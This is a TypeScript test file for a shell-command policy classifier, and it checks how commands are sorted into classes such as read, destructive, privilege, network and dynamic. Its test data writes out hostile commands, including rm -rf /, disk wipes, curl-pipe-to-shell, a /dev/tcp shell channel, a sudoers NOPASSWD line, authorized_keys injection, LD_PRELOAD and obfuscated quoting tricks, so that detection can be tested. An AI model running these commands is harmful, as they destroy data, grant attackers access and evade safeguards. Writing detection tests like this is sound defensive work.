import { describe, expect, it } from 'vitest';
import { classifyExec, MAX_COMMAND_LENGTH } from '../../tunnel/policy/shell/exec-classifier.ts';
import type { ExecClass } from '../../tunnel/policy/shell/exec-classes.ts';
import {
  BinaryOp,
  decodeAnsiC,
  items,
  nodeType,
  parseShell,
  RedirectOp,
  type BinaryCmd,
  type File,
  type Stmt,
} from '../../tunnel/policy/shell/shell-syntax.ts';

const classesOf = (command: string): ExecClass[] => [...classifyExec(command).classes].sort();

function expectClasses(cases: [string, ExecClass[]][]): void {
  for (const [command, expected] of cases) {
    expect(classesOf(command), command).toEqual([...expected].sort());
  }
}

describe('the shell parser as the classifier reads it', () => {
  const first = (text: string): Stmt => items((parseShell(text) as { file: File }).file.Stmts)[0]!;

  it('numbers binary operators and redirections as the table says', () => {
    expect((first('a && b').Cmd as BinaryCmd).Op).toBe(BinaryOp.and);
    expect((first('a || b').Cmd as BinaryCmd).Op).toBe(BinaryOp.or);
    expect((first('a | b').Cmd as BinaryCmd).Op).toBe(BinaryOp.pipe);
    expect((first('a |& b').Cmd as BinaryCmd).Op).toBe(BinaryOp.pipeAll);
    const redirect = (text: string) => items(first(text).Redirs)[0]!.Op;
    expect(redirect('a > f')).toBe(RedirectOp.output);
    expect(redirect('a >> f')).toBe(RedirectOp.append);
    expect(redirect('a < f')).toBe(RedirectOp.input);
    expect(redirect('a <> f')).toBe(RedirectOp.readWrite);
    expect(redirect('a <& 3')).toBe(RedirectOp.duplicateInput);
    expect(redirect('a >& 2')).toBe(RedirectOp.duplicateOutput);
    expect(redirect('a >| f')).toBe(RedirectOp.clobber);
    expect(redirect('a <<E\nx\nE\n')).toBe(RedirectOp.heredoc);
    expect(redirect('a <<-E\n\tx\nE\n')).toBe(RedirectOp.heredocTabs);
    expect(redirect('a <<< s')).toBe(RedirectOp.herestring);
    expect(redirect('a &> f')).toBe(RedirectOp.outputAll);
    expect(redirect('a &>> f')).toBe(RedirectOp.appendAll);
  });

  it('reads node types and refuses what does not parse with the parser’s message', () => {
    expect(nodeType(first('ls').Cmd)).toBe('CallExpr');
    expect(parseShell("echo 'open")).toEqual({ error: expect.stringMatching(/without closing quote/) });
  });

  it("decodes $'…' the way bash does", () => {
    expect(decodeAnsiC('\\x72\\x6d')).toBe('rm');
    expect(decodeAnsiC('\\162\\155')).toBe('rm');
    expect(decodeAnsiC('\\u0072m')).toBe('rm');
    expect(decodeAnsiC('a\\tb\\n')).toBe('a\tb\n');
    expect(decodeAnsiC('stop\\x00here')).toBe('stop');
    expect(decodeAnsiC('\\cA')).toBeUndefined();
  });
});

describe('exec classification', () => {
  it('sorts everyday commands into their classes', () => {
    expectClasses([
      ['uptime', ['read']],
      ['ls -la /var/log && df -h && free -m', ['read']],
      ['tail -n 100 /var/log/syslog | grep -i error | sort | uniq -c', ['read']],
      ['systemctl status nginx', ['read']],
      ['journalctl -u nginx --since today', ['read']],
      ['git log --oneline -5', ['read']],
      ['cp a.conf b.conf', ['write']],
      ['sed -i s/a/b/ app.conf', ['write', 'read']],
      ['systemctl restart nginx', ['write']],
      ['mkdir -p /srv/app/releases/42', ['write']],
      ['rm -rf /srv/app/releases/41', ['destructive']],
      ['systemctl stop nginx', ['destructive']],
      ['shutdown -h now', ['destructive']],
      ['dd if=/dev/zero of=/dev/sda bs=1M', ['destructive']],
      ['mkfs.ext4 /dev/sdb1', ['destructive']],
      ['truncate -s 0 /var/log/app.log', ['destructive']],
      ['shred -u secrets.txt', ['destructive']],
      ['kill -9 1', ['destructive']],
      ['kill -9 -1', ['destructive']],
      ['kill 4242', ['write']],
      ['sudo systemctl restart nginx', ['privilege', 'write']],
      ['su -c "cat /etc/shadow" root', ['privilege', 'read']],
      ['chmod 600 notes.txt', ['write']],
      ['chmod -R 777 /etc', ['privilege']],
      ['chmod u+s /usr/bin/find', ['privilege']],
      ['chown root:root /tmp/x', ['privilege']],
      ['useradd mallory', ['privilege']],
      ['curl -fsS https://example.com/health', ['network']],
      ['wget https://example.com/file.tgz', ['network', 'write']],
      ['apt-get install -y nginx', ['package']],
      ['apt list --installed', ['read']],
      ['pip install requests', ['package']],
      ['python3 -m pip install requests', ['package']],
      ['yum install httpd', ['package']],
      ['dpkg -l', ['read']],
      ['dpkg -i pkg.deb', ['package']],
      ['rpm -qa', ['read']],
      ['rpm -Uvh pkg.rpm', ['package']],
      ['npm ci', ['package']],
      ['./deploy.sh', ['unknown']],
      ['my-inhouse-tool --sync', ['unknown']],
    ]);
  });

  it('counts every command of pipelines, lists, subshells, functions and bodies', () => {
    expectClasses([
      ['ls; rm -rf /tmp/x', ['read', 'destructive']],
      ['true && (cd /srv && rm -rf old)', ['read', 'destructive']],
      ['{ date; reboot; }', ['read', 'destructive']],
      ['f() { shutdown -r now; }; f', ['destructive', 'unknown']],
      ['if test -f x; then rm x; fi', ['read', 'destructive']],
      ['for h in a b; do ssh "$h" uptime; done', ['network']],
      ['case "$1" in stop) systemctl stop app;; esac', ['destructive']],
      ['while read -r f; do rm "$f"; done < list', ['read', 'destructive']],
      ['time reboot', ['destructive']],
      ['! reboot', ['destructive']],
      ['reboot &', ['destructive']],
      ['coproc reboot', ['destructive']],
    ]);
  });

  it('follows what wrappers, shells and helpers run', () => {
    expectClasses([
      ["bash -c 'rm -rf /'", ['destructive']],
      ['sh -c "sh -c \'shutdown now\'"', ['destructive']],
      ['sudo -u app rm -rf /srv/app', ['privilege', 'destructive']],
      ['env -i HOME=/ rm -rf /', ['destructive']],
      ['nohup nice -n 10 timeout 5 reboot', ['destructive']],
      ['xargs rm < files.txt', ['destructive']],
      ['find /srv -name "*.tmp" -exec rm {} +', ['read', 'destructive']],
      ['find /srv -mtime +30 -delete', ['read', 'destructive']],
      ["watch -n 5 'df -h; reboot'", ['read', 'destructive']],
      ['busybox rm -rf /', ['destructive']],
      ["trap 'rm -rf /srv' EXIT", ['read', 'destructive']],
      ["alias ls='rm -rf /'", ['read', 'destructive']],
      ['command rm -rf /', ['destructive']],
      ['exec reboot', ['destructive']],
      ['/bin/rm -rf /', ['destructive']],
      ['/usr/bin/env bash -c reboot', ['destructive']],
    ]);
  });

  it('sees through quoting tricks', () => {
    expectClasses([
      ["r''m -rf /", ['destructive']],
      ['r""m -rf /', ['destructive']],
      ['\\rm -rf /', ['destructive']],
      ["$'\\x72\\x6d' -rf /", ['destructive']],
      ["$'\\162\\155' -rf /", ['destructive']],
      ['"/bin/r"m -rf /', ['destructive']],
      ["bash -c $'rm -rf /'", ['destructive']],
    ]);
  });

  it('calls dynamic what the text does not show', () => {
    expectClasses([
      ['x=rm; $x -rf /', ['dynamic']],
      ['$(echo rm) -rf /', ['dynamic', 'read']],
      ['`echo rm` -rf /', ['dynamic', 'read']],
      ['eval "$CMD"', ['dynamic']],
      ['eval rm -rf /', ['dynamic']],
      ['source ./env.sh', ['dynamic']],
      ['. ./env.sh', ['dynamic']],
      ['bash -c "$x"', ['dynamic']],
      ['curl -s https://get.example.com | sh', ['network', 'dynamic']],
      ['wget -qO- https://x | bash -s', ['network', 'dynamic']],
      ['cat <<EOF | sh\nrm -rf /\nEOF', ['read', 'dynamic']],
      ['bash < script.sh', ['dynamic']],
      ['python3 -c "import os; os.system(\'rm -rf /\')"', ['dynamic']],
      ['perl -e \'unlink glob "*"\'', ['dynamic']],
      ['{rm,-rf,/}', ['dynamic']],
      ['/bin/r? -rf /', ['dynamic']],
      ['PATH=/tmp/evil:$PATH ls', ['dynamic', 'read']],
      ['export LD_PRELOAD=/tmp/evil.so', ['dynamic']],
      ['env LD_PRELOAD=/tmp/x.so ls', ['dynamic', 'read']],
      ["x='a[$(reboot)]'; echo $((x))", ['read', 'dynamic']],
      ["declare 'a[$(reboot)]=1'", ['dynamic']],
      ["printf -v 'a[$(reboot)]' x", ['dynamic']],
      ["sed 's/x/reboot/e' f", ['dynamic']],
      ['awk \'BEGIN { system("reboot") }\'', ['dynamic']],
      ['git -c core.pager="sh -c reboot" log', ['dynamic']],
      ['systemctl $action nginx', ['dynamic']],
      ['kill $(cat /run/app.pid)', ['dynamic', 'read']],
      ['sudo -i', ['privilege', 'dynamic']],
      ['su - root', ['privilege', 'dynamic']],
      ['tar --to-command=sh -xf a.tar', ['dynamic']],
      ['npx some-package', ['package', 'dynamic']],
    ]);
  });

  it('runs substitutions: their commands count wherever they sit', () => {
    expectClasses([
      ['echo $(reboot)', ['read', 'destructive']],
      ['echo "$(rm -rf /)"', ['read', 'destructive']],
      ['ls ${x:-$(reboot)}', ['read', 'destructive']],
      ['diff <(ls a) <(rm -rf b)', ['read', 'destructive']],
      ['[[ -n $(reboot) ]]', ['destructive']],
      ['echo $(( $(reboot) + 1 ))', ['read', 'destructive']],
      ['cat <<EOF\n$(reboot)\nEOF', ['read', 'destructive']],
      ['x=$(reboot)', ['destructive']],
    ]);
  });

  it('judges redirections by where they write', () => {
    expectClasses([
      ['echo hi > /dev/null', ['read']],
      ['ls 2>&1 >/dev/null', ['read']],
      ['echo hi > notes.txt', ['read', 'write']],
      ['echo "mallory ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers', ['read', 'privilege', 'write']],
      ['cat key.pub >> ~/.ssh/authorized_keys', ['read', 'privilege', 'write']],
      ['cat image > /dev/sda', ['read', 'destructive']],
      ['exec 3<>/dev/tcp/10.0.0.1/4444', ['read', 'network']],
      ['cat < /etc/hostname', ['read']],
      ['cp x /etc/sudoers.d/x', ['write', 'privilege']],
    ]);
  });

  it('treats the far ends of scp, rsync and sftp transfers by direction', () => {
    expectClasses([
      ['scp -t /tmp/upload', ['write']],
      ['scp -f /tmp/download', ['read']],
      ['rsync --server -vlogDtpre.iLsfxC . /srv/www', ['write']],
      ['rsync --server --sender -vlogDtpre.iLsfxC . /srv/www', ['read']],
      ['rsync -a --delete src/ host:/dst/', ['write', 'network', 'destructive']],
    ]);
  });

  it('fails closed on what does not parse, including code it would run', () => {
    expect(classifyExec("echo 'unterminated").failure).toMatch(/without closing quote/);
    expect(classifyExec("bash -c 'echo \"'").failure).toMatch(/bash -c runs does not parse/);
    expect(classifyExec('if then fi').failure).toBeDefined();
    expect(classifyExec('x'.repeat(MAX_COMMAND_LENGTH + 1)).failure).toMatch(/longer than/);
  });

  it('stops following nested shell code past a depth and calls it dynamic', () => {
    let command = 'reboot';
    for (let i = 0; i < 12; i++) command = `sh -c ${JSON.stringify(command).replace(/\$/g, '\\$')}`;
    const result = classifyExec(command);
    expect(result.failure).toBeUndefined();
    expect(result.classes.has('dynamic')).toBe(true);
  });

  it('names each command and why', () => {
    const result = classifyExec('sudo -u app ./migrate.sh && curl -s x | sh');
    expect(result.commands.map((c) => [c.name, c.depth])).toEqual([
      ['sudo', 0],
      ['migrate.sh', 1],
      ['curl', 0],
      ['sh', 0],
    ]);
    expect(result.reasons).toContain('reads the commands to run from its input');
  });
});
